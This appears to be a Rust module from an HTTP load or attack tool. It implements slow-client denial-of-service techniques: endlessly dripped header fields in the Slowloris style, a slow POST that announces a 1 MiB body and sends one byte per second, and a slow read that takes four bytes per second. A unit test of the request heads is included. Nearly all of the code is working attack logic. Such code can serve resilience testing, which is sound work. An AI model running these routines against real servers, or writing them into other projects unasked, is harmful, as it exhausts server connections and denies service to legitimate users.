//! Slow clients: each holds a place, and sends or takes just enough to seem alive.

use std::io;
use std::time::Duration;

use bytes::Bytes;
use tokio::io::{AsyncRead, AsyncReadExt, AsyncWriteExt};

use super::{Aim, Intruder, Target};
use crate::request::{Payload, Request};

/// What the system takes of an answer before it is read: as little as it lets one choose.
pub(super) const RECEIVE_BUFFER: u32 = 1024;

/// Between two bytes of a head.
const HEAD_PAUSE: Duration = Duration::from_secs(3);

/// Between two bytes of a body, and between two pieces of an answer.
const BODY_PAUSE: Duration = Duration::from_secs(1);

/// How much of an answer is read at once.
const SIP: usize = 4;

/// What a body is said to have.
const ANNOUNCED: usize = 1 << 20;

/// A head whose fields have no end.
pub(super) async fn head(aim: &Aim, intruder: Intruder) -> io::Result<()> {
    let head = aim.head(&aim.target.small, &intruder.source);
    let begun = head.strip_suffix(b"\r\n").unwrap_or(&head);
    let field = b"X-Slow: head\r\n".iter().cycle();
    drip(aim, intruder, begun, field, HEAD_PAUSE).await
}

/// A body of which far more is announced than comes, of a client or of somebody else.
pub(super) async fn body(aim: &Aim, intruder: Intruder, known: bool) -> io::Result<()> {
    let head = aim.head(&announcing(&aim.target, known), &intruder.source);
    drip(aim, intruder, &head, b"x".iter().cycle(), BODY_PAUSE).await
}

fn announcing(target: &Target, known: bool) -> Request {
    // It is never sent: its length is all that there is of it.
    let byte = Bytes::from_static(b"x");
    let body = Payload { repeated: byte, times: ANNOUNCED, ..Payload::default() };
    let upload = Request { body, ..target.upload.clone() };
    if known { upload } else { upload.of_nobody() }
}

/// An answer of which a few bytes are taken each second.
pub(super) async fn read(aim: &Aim, mut intruder: Intruder) -> io::Result<()> {
    let head = aim.head(&aim.target.large, &intruder.source);
    intruder.stream.write_all(&head).await?;
    aim.tally.sent(1);
    let mut piece = [0; SIP];
    while intruder.stream.read(&mut piece).await? > 0 {
        tokio::time::sleep(BODY_PAUSE).await;
    }
    Ok(())
}

/// Sends bytes one by one until that fails, whatever the server says meanwhile.
async fn drip(
    aim: &Aim,
    intruder: Intruder,
    begun: &[u8],
    bytes: impl Iterator<Item = &u8>,
    pause: Duration,
) -> io::Result<()> {
    let (mut read, mut write) = intruder.stream.into_split();
    let sending = async {
        write.write_all(begun).await?;
        for byte in bytes {
            tokio::time::sleep(pause).await;
            write.write_all(&[*byte]).await?;
            aim.tally.sent(1);
        }
        Ok(())
    };
    let reading = async {
        let _ = discard(&mut read).await;
        std::future::pending::<()>().await;
    };
    tokio::select! {
        sent = sending => sent,
        () = reading => Ok(()),
    }
}

/// Reads to the end. How much it was.
pub(super) async fn discard(read: &mut (impl AsyncRead + Unpin)) -> io::Result<u64> {
    let mut piece = [0; 4096];
    let mut all = 0;
    loop {
        match read.read(&mut piece).await? {
            0 => return Ok(all),
            count => all += count as u64,
        }
    }
}

#[cfg(test)]
mod tests {
    use http::Method;

    use super::*;

    #[test]
    fn a_body_is_announced_by_a_client_or_by_nobody() {
        let read = Request::get("/a", "Basic x");
        let upload = Request { method: Method::POST, ..read.clone() };
        let target = Target { upload, small: read.clone(), large: read, guess: None };
        let head = |known| announcing(&target, known).head("h:1");
        assert_eq!(
            head(true),
            "POST /a HTTP/1.1\r\nHost: h:1\r\nAuthorization: Basic x\r\nContent-Length: 1048576\r\n\r\n"
        );
        assert_eq!(head(false), "POST /a HTTP/1.1\r\nHost: h:1\r\nContent-Length: 1048576\r\n\r\n");
    }
}
